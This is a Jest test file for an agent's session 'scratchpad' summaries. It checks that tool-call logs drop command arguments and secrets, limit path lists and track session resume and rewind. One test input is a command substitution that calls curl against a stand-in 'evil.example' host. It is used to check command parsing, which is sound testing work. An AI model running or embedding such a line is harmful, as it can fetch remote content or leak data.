import {appendFile, readdir, readFile} from 'node:fs/promises';
import {join} from 'node:path';
import {describe, expect, test} from '@jest/globals';
import type {CallRecord, Entry} from '@gemini-kernel/plugin-agent/contract';
import type {TestKernel} from '@gemini-kernel/kernel/testing';
import type {Scratchpad} from '@gemini-kernel/plugin-sessions/contract';
import {answered, converse, fill, said, turn} from './conversation.js';
import {describeWork, noteStep} from '#plugins/sessions/dist/scratchpad/describe-work.js';
import {programOf} from '#plugins/sessions/dist/scratchpad/program-of.js';

const ROOT = '/work/project';
const call = (name: string, input: unknown, status: CallRecord['status'] = 'done'): CallRecord => ({
  ...{id: `${name}-1`, name, input, status, output: [], ms: 1, time: '2026-01-01T00:00:00.000Z'},
});
const works = (id: string, ...calls: readonly CallRecord[]): Entry => ({...answered(id, `Did ${id}`), calls});
const workOf = (...calls: readonly CallRecord[]): Scratchpad => describeWork(calls.map((one) => noteStep(one, ROOT)));
const chatsOf = ({home}: TestKernel): string => join(home, '.gemini/tmp/project/chats');

async function fileOf(kernel: TestKernel): Promise<string> {
  const [name = ''] = (await readdir(chatsOf(kernel))).filter((one) => one.endsWith('.jsonl'));
  return join(chatsOf(kernel), name);
}

describe('what was done in a session [sessions.scratchpad]', () => {
  test('is its tools, its paths and how its last check ended, as Gemini CLI writes it', () => {
    expect(
      workOf(
        call('read_file', {file_path: '/work/project/src/a.ts'}),
        call('replace', {file_path: 'src/a.ts', old_string: 'b', new_string: 'c'}),
        call('run_shell_command', {command: 'TOKEN=abc ./bin/npm test --key=secret'}, 'failed'),
        call('run_shell_command', {command: 'npm test'}),
      ),
    ).toEqual({
      version: 1,
      workflowSummary: 'read_file -> replace -> run_shell_command: npm | paths src/a.ts | validated',
      toolSequence: ['read_file', 'replace', 'run_shell_command: npm'],
      touchedPaths: ['src/a.ts'],
      validationStatus: 'passed',
    });
  });

  test('has no argument of a command, no path outside of the project, and limits', () => {
    const outside = workOf(call('read_file', {file_path: '/home/me/private/notes.txt'}));
    expect(outside.touchedPaths).toEqual(['notes.txt']);
    const many = workOf(...Array.from({length: 9}, (_, at) => call(`tool_${at}`, {path: `dir/${at}.ts`})));
    expect(many.toolSequence).toHaveLength(6);
    expect(many.touchedPaths).toHaveLength(4);
    const long = workOf(...Array.from({length: 6}, (_, at) => call(`tool_${at}_${'x'.repeat(40)}`, {})));
    expect(long.workflowSummary).toHaveLength(160);
    expect(workOf(call('read_file', {text: 'a/b.ts', path: 'plain', dir: 'x\ny/z'})).touchedPaths).toBeUndefined();
    expect(workOf(call('check', null, 'refused')).validationStatus).toBe('failed');
    expect(workOf()).toEqual({version: 1});
  });

  test.each([
    ['npm test', 'npm'],
    ['A=1 B="2 3" /usr/bin/git push', 'git'],
    ['"my program" --x', 'shell'],
    ["'make' all", 'make'],
    ['$(curl https://evil.example/?k=1)', 'shell'],
    ['A=1', undefined],
    ['   ', undefined],
  ])('a command is the name of its program: %s', (line, program) => {
    expect(programOf(line)).toBe(program);
  });
});

describe('the metadata of a session [sessions.scratchpad]', () => {
  const edit = call('write_file', {file_path: 'a.ts'});

  test('gets it at the end, and it is out of date as soon as something is said', async () => {
    await using first = await converse();
    await first.agent.change({kind: 'put', entry: said('q', 'Write it')});
    await first.agent.change({kind: 'put', entry: works('a', edit)});
    await first.agent.change({kind: 'settled'});
    const sessions = await first.service('sessions');
    expect((await sessions.open('latest')).scratchpad).toBeUndefined();
    await first.live.close();
    const file = await fileOf(first);
    expect(JSON.parse((await readFile(file, 'utf8')).trim().split('\n').at(-1) ?? '')).toEqual({
      $set: {
        memoryScratchpad: {
          version: 1,
          workflowSummary: 'write_file | paths a.ts',
          toolSequence: ['write_file'],
          touchedPaths: ['a.ts'],
        },
      },
    });
    await using second = await converse({earlier: first, flags: {'session.resume': 'latest'}});
    const read = async (): Promise<Scratchpad | undefined> =>
      (await (await second.kernel.open().service('sessions')).open('latest')).scratchpad;
    expect(await read()).toMatchObject({toolSequence: ['write_file']});
    await second.agent.load();
    await turn(second, 'two');
    expect(await read()).toBeUndefined();
    await second.agent.change({kind: 'put', entry: works('c', call('glob', {pattern: '*'}))});
    await second.agent.change({kind: 'settled'});
    await second.live.close();
    expect(await read()).toMatchObject({toolSequence: ['write_file', 'glob']});
    await appendFile(file, `${JSON.stringify({$rewindTo: 'two-q'})}\n`);
    expect(await read()).toBeUndefined();
  });

  test('has none without calls, and what was taken back is not in it', async () => {
    await using talk = await converse();
    await turn(talk, 'one');
    await talk.agent.change({kind: 'put', entry: said('q', 'Write it')});
    await talk.agent.change({kind: 'put', entry: works('a', edit)});
    await talk.agent.change({kind: 'settled'});
    await talk.agent.change({kind: 'rewind', to: 'q'});
    await talk.live.close();
    expect(await readFile(await fileOf(talk), 'utf8')).not.toContain('memoryScratchpad');
  });

  test('is read from sessions of Gemini CLI, older ones too, and nonsense in it is left out', async () => {
    await using talk = await converse();
    await (await talk.service('project')).claim();
    const head = (id: string): object => ({
      ...{sessionId: id, projectHash: 'p', startTime: '2026-01-01T00:00:00.000Z', kind: 'main'},
      lastUpdated: '2026-01-01T00:00:00.000Z',
    });
    const hi = {id: 'm', timestamp: '2026-01-01T00:00:00.000Z', type: 'user', content: 'Hi there'};
    const scratchpad = {version: 1, toolSequence: ['glob', 7], validationStatus: 'maybe', touchedPaths: 'x'};
    const lines = (...all: readonly object[]): string => all.map((one) => `${JSON.stringify(one)}\n`).join('');
    await fill(chatsOf(talk), {
      'session-2026-01-01T00-00-old.json': JSON.stringify({
        ...head('old'),
        memoryScratchpad: {version: 1, workflowSummary: 'glob'},
        messages: [hi],
      }),
      'session-2026-01-01T00-00-odd.jsonl': lines(head('odd'), hi, {$set: {memoryScratchpad: scratchpad}}),
      'session-2026-01-01T00-00-two.jsonl': lines(head('two'), hi, {$set: {memoryScratchpad: {version: 2}}}),
    });
    const sessions = await talk.service('sessions');
    expect((await sessions.open('old')).scratchpad).toEqual({version: 1, workflowSummary: 'glob'});
    expect((await sessions.open('odd')).scratchpad).toEqual({version: 1, toolSequence: ['glob']});
    expect((await sessions.open('two')).scratchpad).toBeUndefined();
    await sessions.rename('old', 'A name');
    expect((await sessions.open('old')).scratchpad).toEqual({version: 1, workflowSummary: 'glob'});
  });
});
